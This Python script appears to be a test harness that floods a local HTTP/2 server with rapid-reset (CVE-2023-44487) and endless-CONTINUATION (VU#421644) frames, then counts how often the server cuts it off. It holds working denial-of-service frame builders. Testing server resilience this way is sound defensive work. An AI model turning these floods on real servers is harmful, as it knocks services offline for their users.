# SPDX-License-Identifier: Apache-2.0
"""Floods over HTTP/2 from a process of their own: attack.py MODE PORT SECONDS.

    rapid-reset    streams opened and taken back (CVE-2023-44487)
    continuation   a head that never ends (VU#421644)

Connects again whenever it is shut out, and says at the end how often that was and how much it sent.
"""
import json
import socket
import struct
import sys
import time

import hpack

import http2


def head():
    return hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
        (":path", "/openai/v1/chat/completions")], huffman=False)


def rapid_reset():
    block = head()  # its fields are in the server's table from the second time on, at no matter
    return b"".join(http2.pack(http2.HEADERS, 4, stream, block)
                    + http2.pack(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))
                    for stream in range(1, 4001, 2))


def continuation():
    more = http2.pack(http2.CONTINUATION, 0, 1, b"\0\1x\1y")
    return http2.pack(http2.HEADERS, 0, 1, head()) + more * 20000


def main(mode, port, seconds):
    flood = {"rapid-reset": rapid_reset, "continuation": continuation}[mode]()
    opening = http2.PREFACE + http2.pack(http2.SETTINGS, 0, 0)
    end = time.monotonic() + seconds
    connections = sent = shut_out = 0
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), 5) as sock:
            connections += 1
            try:
                sock.sendall(opening + flood)
                sent += len(flood)
                while sock.recv(65536):
                    pass
            except OSError:
                pass
            shut_out += 1
    print(json.dumps({"connections": connections, "shut_out": shut_out, "bytes": sent}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
